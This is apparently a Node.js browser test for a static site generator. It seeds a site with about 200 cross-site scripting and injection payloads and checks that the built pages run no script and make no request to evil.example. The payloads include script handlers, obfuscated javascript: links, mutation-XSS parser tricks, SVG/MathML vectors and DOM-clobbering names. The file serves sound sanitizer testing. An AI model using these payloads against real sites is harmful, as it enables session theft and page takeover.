// What strangers may try: a site full of it, in a real browser. Nothing runs, nothing is loaded from elsewhere, nothing is sent,
// nothing covers the page or leads away from it. Each page is opened without the policy that it carries, so that what
// is published must be harmless by itself, and some of them as they are. Attached files are opened as they are.
//
// node vectors.mjs VADE   the program; CHROMIUM names another browser
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, extname, join } from 'node:path';
import { launch } from './browser.mjs';

const vade = process.argv[2];
// `canary()` is there on every page; it must never sing. Addresses under evil.example must never be asked for.
const bodies = [
  // Scripts and handlers.
  '<script>canary()</script>', '<script src=https://evil.example/x.js></script>', '<SCRIPT\n>canary()</SCRIPT >',
  '<scr<script>ipt>canary()</scr</script>ipt>', '<script/x>canary()</script>', '<<script>canary()//<</script>', '<script>canary()',
  '<img src=x onerror=canary()>', '<img/src=x/onerror=canary()>', '<img src=x onerror\n=\ncanary()>', '<img src="x`" onerror=canary()`>',
  '<img """><script>canary()</script>">', '<image src=x onerror=canary()>', '<img src=x:x onerror=canary()//', '<p onclick=canary()>x</p>',
  '<b onmouseover=canary()>x</b>', '<a id=x tabindex=1 onfocus=canary() autofocus>x</a>', '<details open ontoggle=canary()>x</details>',
  '<video src=x onerror=canary()></video>', '<video><source onerror=canary()></video>', '<audio src=x onloadstart=canary()></audio>',
  '<body onload=canary()>', '<input onfocus=canary() autofocus>', '<select onfocus=canary() autofocus><option>x</select>',
  '<textarea onfocus=canary() autofocus>', '<keygen onfocus=canary() autofocus>', '<marquee onstart=canary()>x</marquee>',
  '<div onanimationstart=canary() style="animation: x 1s">x</div>', '<p onpointerrawupdate=canary()>x</p>', '<xss onfocus=canary() tabindex=1 autofocus>x</xss>',
  '<my-element onclick=canary()>x</my-element>', '<p ONCLICK=canary()>x</p>', '<p x="><img src=x onerror=canary()>">', "<p title='\"><img src=x onerror=canary()>'>x</p>",
  // Addresses.
  '[x](javascript:canary())', '[x](<javascript:canary()>)', '[x](JaVaScRiPt:canary())', '[x](&#106;avascript:canary())', '[x](javascript&colon;canary())',
  '[x](java&#9;script:canary())', '[x](&#1;javascript:canary())', '[x](data:text/html,<script>canary()</script>)', '[x](vbscript:canary())', '[x][y]\n\n[y]: javascript:canary()',
  '<javascript:canary()>', '![x](javascript:canary())', '![x](data:image/svg+xml,<svg/onload=canary()>)', '[x](feed:javascript:canary())', '[x](filesystem:http://x/y)',
  '[x](blob:https://x/y)', '[x](intent://x#Intent;S.browser_fallback_url=javascript:canary();end)', '[x](view-source:javascript:canary())', '[x](x-foo:bar)', '[x](file:///etc/passwd)',
  '<a href="javascript:canary()">x</a>', '<a href=" &#14; javascript:canary()">x</a>', '<a href="java\nscript:canary()">x</a>', '<a href="java&Tab;script&#58;canary()">x</a>', '<a href="&#0000106avascript:canary()">x</a>',
  '<a href="javas\u00adcript:canary()">x</a>', '<a href="jav&#x0A;ascript:canary()">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==">x</a>', '<a href="vbscript:x">x</a>', '<a xlink:href="javascript:canary()">x</a>',
  '<map name=m><area shape=default href="javascript:canary()"></map><img usemap=#m src=x>', '<form action="javascript:canary()"><input type=submit></form>', '<button formaction="javascript:canary()">x</button>', '<isindex action="javascript:canary()">',
  // Loads.
  '<img src="https://evil.example/a.png">', '<img src=//evil.example/a.png>', '<img src=/\\evil.example/a.png>', '<img srcset="https://evil.example/a.png 1x, //evil.example/b.png 2x">',
  '<picture><source srcset=//evil.example/a.png><img src=own.png></picture>', '<video poster=//evil.example/p.png src=//evil.example/v.mp4></video>', '<audio><source src=//evil.example/a.ogg></audio>', '<video><track default src=//evil.example/t.vtt></video>',
  '<iframe src=https://evil.example/></iframe>', '<iframe srcdoc="<script>parent.canary()</script>"></iframe>', '<iframe src="javascript:parent.canary()"></iframe>', '<frameset><frame src=//evil.example/></frameset>',
  '<object data=//evil.example/x></object>', '<object data="data:text/html,<script>canary()</script>"></object>', '<embed src=//evil.example/x>', '<applet code=//evil.example/x></applet>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=prefetch href=//evil.example/x>',
  '<table background=//evil.example/a.png><tr><td>x</td></tr></table>', '<body background=//evil.example/a.png>', '<input type=image src=//evil.example/a.png>', '![x](https://evil.example/a.png)', '![x](//evil.example/a.png)', '![[https://evil.example/a.png]]',
  '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>', '<blockquote cite=//evil.example/>x</blockquote>', '<p background=//evil.example/a.png>x</p>', '<meta http-equiv=refresh content="0; url=//evil.example/">', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:canary()">', '<base href=//evil.example/>',
  '<meta http-equiv=Set-Cookie content="a=b">', '<html manifest=//evil.example/x>', '<portal src=//evil.example/></portal>', '<bgsound src=//evil.example/x>', '<layer src=//evil.example/x></layer>', '<ilayer src=//evil.example/x></ilayer>',
  // Styles.
  '<style>* { background: url(//evil.example/a.png) }</style>', '<style>@import "//evil.example/x.css";</style>', '<p style="background: url(//evil.example/a.png)">x</p>', '<p style="position: fixed; inset: 0; background: red; z-index: 99">x</p>', '<div style="width: expression(canary())">x</div>',
  '<style>body { display: none }', '<style>[href^="a"] { background: url(//evil.example/a) }</style>', '<div class="doors"><a href="https://evil.example/">x</a></div>', '<div class="sidebar"><nav><h2>Log in</h2><a href="https://evil.example/">x</a></nav></div>', '<pre class="skip">x</pre>', '<div class="num"><h2>x</h2></div>',
  '<div class=contents><details><summary>x</summary>y</details></div>', '<div class="scroll"><table><tr><th>x</table></div>', '<div class="grid"><table data-sortable><caption>x</caption><thead><tr><th>x</thead></table></div>', '<p class="close">x</p>', '<div class="letter"><span class="word">x</span></div>', '<div class="brand"><a href=//evil.example/>x</a></div>', '<div class="sort tools mine">x</div>',
  '<div\nclass="skip"', '<div title="\n\n[x](class=doors)\n\n">', '<dialog open>x</dialog>', '<div popover id=p>x</div><button popovertarget=p>x</button>', '<main id="vade:main">x</main>', '<header class=top><nav>x</nav></header>', '```js\tdoors\ncanary()\n```', '```"><script>canary()</script>\nx\n```',
  // What parsers disagree on.
  '<noscript><p title="</noscript><img src=x onerror=canary()>"></noscript>', '<svg><style><img src=x onerror=canary()></style></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<svg></p><style><a id="</style><img src=1 onerror=canary()>">', '<math></p><style><!--</style><img src onerror=canary()>--></math>', '<table><td><svg><desc><td></desc></svg><title><!--</title><img src=x onerror=canary()>-->', '<select><template><img src=x onerror=canary()></template></select>', '<template><script>canary()</script></template>',
  '<!--><script>canary()</script>-->', '<!-- --!><script>canary()</script> -->', '<![CDATA[<script>canary()</script>]]>', '<?xml-stylesheet href="javascript:canary()"?>', '<!DOCTYPE x [<!ENTITY y "z">]><script>canary()</script>', '</main></body></html><script>canary()</script>', '<xmp><p title="</xmp><img src=x onerror=canary()>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=canary()>"></textarea>', '<title><p title="</title><img src=x onerror=canary()>"></title>', '<noembed><p title="</noembed><img src=x onerror=canary()>"></noembed>', '<iframe><p title="</iframe><img src=x onerror=canary()>"></iframe>', '<plaintext><script>canary()</script>', '<a href="[[x]]" title="`<script>canary()</script>`">x</a>',
  '<div title="<v-m data-v=\'r0\'></v-m>"><v-t><img src=x onerror=canary()></v-t>', '<v-m data-v="l0"></v-m>', '<p title="vade-ref:0">x</p>', '<b <script>canary()</script>>x</b>', '<p/onclick=canary()/>x</p>', '<p x=`"`onclick=canary()>x</p>', '\u2028<script>canary()</script>', '<\u0000script>canary()</script>', '<p title=&quot;&gt;&lt;img&#32;src=x&#32;onerror=canary()&gt;>x</p>',
  // Drawings and formulas.
  '<svg onload=canary()></svg>', '<svg><script>canary()</script></svg>', '<svg><script href=//evil.example/x.js /></svg>', '<svg><a xlink:href="javascript:canary()"><text y=9>x</text></a></svg>', '<svg><animate onbegin=canary() attributeName=x dur=1s></svg>', '<svg><a><animate attributeName=href values=javascript:canary() /><text y=9>x</text></a></svg>', '<svg><set attributeName=onmouseover to=canary() /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>canary()</script></svg>#x"/></svg>', '<svg><image href=//evil.example/a.png /></svg>', '<svg><feImage href=//evil.example/a.png /></svg>', '<svg><foreignObject><iframe srcdoc="<script>parent.canary()</script>"></iframe></foreignObject></svg>', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">canary()</handler></svg>',
  '<math href="javascript:canary()">x</math>', '<math><maction actiontype="statusline#http://x" xlink:href="javascript:canary()">x</maction></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=canary()></annotation-xml></math>',
  // Names that scripts could take for their own.
  '<img name=currentScript src=own.png>', '<a id=location href=https://evil.example/>x</a>', '<form id=document name=cookie><input name=attributes></form>', '<img id=Intl name=Intl src=own.png>', '<a id=x name=toString>x</a><a id=x name=y>y</a>', '<p id=Idiomorph>x</p>', '<object id=x name=script></object>',
  // Markdown around them.
  '| <script>canary()</script> |\n|---|\n| <img src=x onerror=canary()> |', '> [!NOTE] <script>canary()</script>\n> x', '[^<script>canary()</script>]\n\n[^<script>canary()</script>]: x', '# <script>canary()</script>', '## x <img src=x onerror=canary()>', '`<script>canary()</script>`', '[x](https://evil.example/"onmouseover="canary())', "[x](https://evil.example/ 'a\" onmouseover=\"canary()')", '![" onerror="canary()](x.png)', '[[x|<img src=x onerror=canary()>]]', '- [ ] <img src=x onerror=canary()>', '<https://evil.example/"><script>canary()</script>>',
];

// One value for every field that holds text.
const fields = ['<script>canary()</script>', '"><img src=x onerror=canary()>', "'><svg onload=canary()>", '</script><script>canary()</script>', '</title><script>canary()</script>', ']]><script>canary()</script>', '{{ 7 * 7 }}<script>canary()</script>', '--><img src=x onerror=canary()>', '<!--<script>', '&lt;img src=x onerror=canary()&gt;', '\u2028</script ><script>canary()</script>', '[x](javascript:canary())'];
const urls = ['javascript:canary()', ' javascript:canary()', 'JAVASCRIPT:canary()', 'data:text/html,<script>canary()</script>', 'vbscript:x', 'https://evil.example/"onmouseover="canary()'];

// Attached files, which a browser may open by their own address.
const scripted = '<script>canary()</script><img src=x onerror=canary()><img src="https://evil.example/a.png"><iframe src="https://evil.example/"></iframe><body onload=canary()>';
const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><script>canary()</script></html>`;
const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="canary()"><script>canary()</script><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="canary()"><img src="https://evil.example/a.png" onerror="canary()"/></body></foreignObject><image href="https://evil.example/b.png"/><a xlink:href="javascript:canary()"><animate attributeName="href" values="javascript:canary()"/><rect width="9" height="9"/></a><set attributeName="onmouseover" to="canary()"/><style>@import "https://evil.example/x.css"; rect { fill: url(https://evil.example/c.svg#x) }</style></svg>';
const attached = {
  'page.html': scripted, 'page.HTM': scripted, 'page.html.old-one': scripted, 'doctype.html': `<!doctype html><html><head>${scripted}</head></html>`, 'comment.html': `<!--><script>canary()</script>-->${scripted}`, 'bom.html': `\ufeff${scripted}`,
  'refresh.html': '<meta http-equiv=refresh content="0; url=javascript:canary()">', 'base.html': '<base href="https://evil.example/"><script src=x.js></script>', 'wide.html': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(scripted, 'utf16le')]), 'page.shtml': scripted, 'page.xhtml': xhtml, 'page.xht': xhtml, 'page.xml': xhtml, 'page.xsl': xhtml,
  'entity.xml': '<!DOCTYPE a [<!ENTITY x "http://www.w3.org/1999/xhtml">]><a:script xmlns:a="&x;">canary()</a:script>', 'number.xml': '<a:script xmlns:a="http://www.w3.org/1999/&#120;html">canary()</a:script>', 'draw.svg': svg, 'draw.SVG': svg, 'draw.svgz': svg, 'noname': scripted, 'odd.unheard-of': scripted, 'page.mhtml': scripted, 'page.txt': scripted, 'page.rdf': xhtml, 'page.mathml': xhtml,
};

const root = mkdtempSync(join(tmpdir(), 'vectors-'));
const out = join(root, 'out');
const write = (path, content) => {
  mkdirSync(dirname(join(root, 'site', path)), { recursive: true });
  writeFileSync(join(root, 'site', path), content);
};
const number = (n) => String(n).padStart(3, '0');
const own = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const text = JSON.stringify;
write('site.yaml', `title: ${text(fields[3])}\ndescription: ${text(fields[0])}\nedition: ${text(fields[1])}\nbase-url: https://handbook.example/\nfacts: {x: ${text(fields[0])}}\ncollections: {free: {html: trusted}, portfolios: {title: ${text(fields[2])}}}\n`);
write('portfolios/eve/index.md', `---\nname: Eve\naudience: public\n---\nText.\n`);
write('portfolios/eve/own.png', own);
bodies.forEach((body, n) => write(`portfolios/eve/v${number(n)}.md`, `---\ndate: 2026-01-01\n---\n# V${number(n)}\n\nBefore.\n\n${body}\n\nAfter ${body.includes('\n') ? '' : body}.\n`));
fields.forEach((value, n) => {
  write(`portfolios/p${n}/index.md`, `---\nname: ${text(value)}\nrole: ${text(value)}\norganization: ${text(value)}\nposition: ${text(value)}\ncohort: ${text(value)}\nemail: ${text(value)}\ncontact: true\nsummary: ${text(value)}\nlinks: {${text(value)}: ${text(urls[n % urls.length])}}\naudience: public\n---\n${value}\n`);
  write(`portfolios/p${n}/work.md`, `---\ntitle: ${text(value)}\nsummary: ${text(value)}\nstatus: ${text(value)}\ntags: [${text(value)}]\nlevel: ${text(value)}\ndate: 2026-01-02\noutcomes: [K-${n}]\nlang: ${text(value)}\n---\n# ${value}\n\nSee [[work]].\n`);
  write(`sessions/s${n}.md`, `---\ntitle: ${text(value)}\nplace: ${text(value)}\ntime: ${text(value)}\nrepeats: ${text(value)}\nurl: ${text(urls[n % urls.length])}\ndate: 2026-01-0${(n % 9) + 1}\nsteps: [{text: ${text(value)}, when: ${text(value)}}]\n---\n![[s${n}#steps]] and [[fact:x]]\n`);
  write(`resources/r${n}.md`, `---\ntitle: ${text(value)}\nurl: ${text(urls[n % urls.length])}\nfile: ${text(value)}\n---\n`);
});
const cell = (value) => `"${value.replaceAll('"', '""')}"`;
write('outcomes/k.csv', `code,statement,title,criteria\n${fields.map((value, n) => [`K-${n}`, value, value, value].map(cell).join()).join('\n')}\n${fields.map((value) => [value, 'x', 'x', 'x'].map(cell).join()).join('\n')}\n`);
write('portfolios/eve/attached/index.md', `---\ndate: 2026-01-03\n---\n# Attached\n\n${Object.keys(attached).map((name) => `[${name}](${name})`).join(', ')} ![](draw.svg)\n`);
for (const [name, content] of Object.entries(attached)) write(`portfolios/eve/attached/${name}`, content);
const odd = ['"><img src=x onerror=canary()>.png', "'onerror='canary()'.png", '&lt;script&gt;.png', 'javascript:canary().png'];
for (const name of odd) write(`portfolios/eve/names/${name}`, own);
write('portfolios/eve/names/index.md', `---\ndate: 2026-01-04\n---\n# Names\n\n${odd.map((name) => `![[${name}]]`).join('\n\n')}\n`);
// Pages that do harm: what watches must see it.
const harmful = { script: '<script>canary()</script>', load: '<img src="https://evil.example/a.png">', cover: '<div style="position: fixed; inset: 0">x</div>', lead: '<a href="javascript:canary()">x</a>' };
for (const [name, body] of Object.entries(harmful)) write(`free/${name}.md`, `# ${name}\n\n${body}\n`);

const built = spawnSync(vade, ['build', join(root, 'site'), '--out', out, '--keep-going'], { encoding: 'utf8' });
if (!existsSync(join(out, 'index.html'))) throw new Error(built.stderr);

// A plain static host.
const types = { '.html': 'text/html', '.htm': 'text/html', '.shtml': 'text/html', '.xhtml': 'application/xhtml+xml', '.xht': 'application/xhtml+xml', '.xml': 'application/xml', '.xsl': 'application/xml', '.rdf': 'application/rdf+xml', '.mathml': 'application/mathml+xml', '.svg': 'image/svg+xml', '.css': 'text/css', '.js': 'text/javascript', '.png': 'image/png', '.txt': 'text/plain', '.json': 'application/json' };
const server = createServer((request, response) => {
  const path = join(out, decodeURIComponent(new URL(request.url, 'http://x').pathname));
  let body;
  try {
    body = readFileSync(path);
  } catch {
    return response.writeHead(404).end();
  }
  const type = types[extname(path).toLowerCase()] ?? (path.endsWith('.old-one') ? 'text/html' : null);
  response.writeHead(200, type ? { 'Content-Type': type } : {}).end(body);
});
await new Promise((done) => server.listen(0, '127.0.0.1', done));
const base = `http://127.0.0.1:${server.address().port}/`;

const browser = await launch();

// What is harmful in a page that is open: what is in its text alone, after everything in it was touched.
const harmOf = () => {
  const harm = [];
  const prose = '.prose, .lead, .statement, .text, .sentence';
  const links = [...document.querySelectorAll('a[href], area[href]')];
  for (const link of links) {
    if (!['http:', 'https:', 'mailto:', 'tel:', 'sms:', 'geo:', 'ftp:'].includes(link.protocol)) harm.push(`leads to ${link.getAttribute('href')}`);
  }
  for (const element of document.querySelectorAll('*')) {
    for (const { name } of element.attributes ?? []) if (name.startsWith('on')) harm.push(`${element.localName} has ${name}`);
  }
  for (const element of document.querySelectorAll(`:is(${prose}) :is(script, style, iframe, object, embed, form, input, button, link, meta, base, svg, math, dialog, textarea, template)`)) harm.push(`holds ${element.localName}`);
  for (const element of document.querySelectorAll(`:is(${prose}) *`)) {
    if (getComputedStyle(element).position === 'fixed') harm.push(`${element.localName} is fixed`);
    for (const event of ['mouseover', 'focus', 'toggle', 'animationstart', 'click']) {
      if (!(event === 'click' && element.closest('a'))) element.dispatchEvent(new Event(event, { bubbles: true, cancelable: true }));
    }
  }
  scrollTo(0, 0);
  for (let x = 4; x < innerWidth; x += 24) {
    for (let y = 4; y < innerHeight; y += 24) {
      const box = document.elementFromPoint(x, y)?.closest(prose)?.getBoundingClientRect();
      if (box && (x < box.left - 9 || x > box.right + 9 || y < box.top - 9 || y > box.bottom + 9)) {
        harm.push(`something of the text lies over ${x}, ${y}`);
        x = y = 1e9;
      }
    }
  }
  const brand = document.querySelector('.brand a')?.getBoundingClientRect();
  if (brand && !document.elementFromPoint(brand.left + 3, brand.top + brand.height / 2)?.closest('.brand')) harm.push('the name of the site is covered');
  return harm;
};

// One window, in which pages are opened one after the other.
async function windowOf(context) {
  const page = await context.newPage();
  const seen = { harm: [] };
  windows.set(page, seen);
  const harm = { push: (what) => seen.harm.push(what) };
  page.on('dialog', (dialog) => { harm.push('a dialog'); dialog.dismiss(); });
  page.on('console', (message) => { if (message.text() === 'canary') harm.push('a script ran'); });
  page.on('popup', () => harm.push('a window'));
  return { page, seen };
}

async function open({ page, seen }, path, isPage) {
  seen.harm = [];
  const { harm } = seen;
  const url = base + path.split('/').map(encodeURIComponent).join('/');
  try {
    await page.goto(url, { waitUntil: 'load', timeout: 20_000 });
    if (isPage) harm.push(...(await page.evaluate(harmOf)));
    else await page.evaluate(() => document.querySelectorAll('*').forEach((element) => element.dispatchEvent(new Event('mouseover', { bubbles: true }))));
    await page.evaluate(() => new Promise((done) => setTimeout(done, 5)));
    if (page.url() !== url) harm.push(`is at ${page.url()}`);
  } catch (error) {
    // What the browser keeps instead of showing it does no harm.
    if (!/Download is starting|ERR_ABORTED/.test(error.message)) harm.push(error.message.split('\n')[0]);
  }
  return [...new Set(seen.harm)];
}

const files = (folder, prefix = '') => readdirSync(folder, { withFileTypes: true }).flatMap((entry) => (entry.isDirectory() ? files(join(folder, entry.name), `${prefix}${entry.name}/`) : [prefix + entry.name]));
const isAttached = (path) => path.startsWith('portfolios/eve/attached/') && !path.endsWith('/index.html');
const all = files(out);
// The handbook's document for paper holds what the pages of `free` hold; its policy keeps that from running.
const handbook = 'print.html';
const pages = all.filter((path) => path.endsWith('.html') && !isAttached(path) && !path.startsWith('free/') && path !== handbook);
const windows = new Map();
let passed = 0;
const failures = [];
const check = (name, problems) => {
  if (problems.length === 0) passed += 1;
  else failures.push(`${name}\n    ${problems.slice(0, 6).join('\n    ')}`);
};
async function each(context, paths, isPage, judge) {
  const queue = [...paths];
  const work = async () => {
    const window = await windowOf(context);
    for (let path = queue.shift(); path !== undefined; path = queue.shift()) judge(path, await open(window, path, isPage));
    await window.page.close();
  };
  await Promise.all(Array.from({ length: 4 }, work));
}
const contextOf = async (options) => {
  const context = await browser.newContext({ ...options, acceptDownloads: false });
  await context.addInitScript(() => { window.canary = () => console.log('canary'); });
  // What a policy forbids does not come here.
  await context.route((url) => !url.href.startsWith(base), (route) => {
    const request = route.request();
    windows.get(request.frame().page())?.harm.push(`asks for ${request.url()}`);
    return route.abort();
  });
  return context;
};
const bare = await contextOf({ bypassCSP: true, viewport: { width: 400, height: 700 } });
const whole = await contextOf({ viewport: { width: 1200, height: 800 } });

check('at least 150 vectors', bodies.length + fields.length + Object.keys(attached).length >= 150 ? [] : [`${bodies.length}`]);
check('every vector has its page', bodies.flatMap((_, n) => (pages.includes(`portfolios/eve/v${number(n)}.html`) ? [] : [`v${number(n)}`])));
await each(bare, Object.keys(harmful).map((name) => `free/${name}.html`), true, (path, harm) => check(`${path}: what watches sees it`, harm.length > 0 ? [] : ['nothing seen']));
const named = (path) => { const n = /v(\d{3})\.html$/.exec(path); return n ? `${path}: ${bodies[Number(n[1])]}` : path; };
await each(bare, pages, true, (path, harm) => check(`${named(path)}, without its policy`, harm));
// What was harmless without a policy is so with one: a few of them show that it lets the theme do its work.
await each(whole, pages.filter((_, n) => n % 8 === 0), true, (path, harm) => check(named(path), harm));
check('the handbook has its document for paper', all.includes(handbook) ? [] : ['it is not there']);
await each(whole, [handbook, ...all.filter(isAttached)], false, (path, harm) => check(path, harm));

// Files for programs: well-formed, and nothing in them is markup that runs.
const page = await whole.newPage();
await page.goto(`${base}index.html`);
for (const path of all.filter((path) => /^[^/]*\.xml$/.test(path))) {
  const bad = await page.evaluate((xml) => {
    const read = new DOMParser().parseFromString(xml, 'application/xml');
    return [...read.querySelectorAll('parsererror, script, img, svg')].map((element) => element.localName);
  }, readFileSync(join(out, path), 'utf8'));
  check(`${path} is sound`, bad);
}
for (const path of all.filter((path) => path.endsWith('.json'))) {
  let problem = [];
  try { JSON.parse(readFileSync(join(out, path), 'utf8')); } catch (error) { problem = [error.message]; }
  check(`${path} is sound`, problem);
}

await browser.close();
server.close();
rmSync(root, { recursive: true });
for (const failure of failures) console.log(`FAILED ${failure}`);
console.log(`${passed} passed, ${failures.length} failed; ${bodies.length} bodies, ${fields.length} values of fields, ${Object.keys(attached).length} attached files`);
process.exitCode = failures.length === 0 ? 0 : 1;
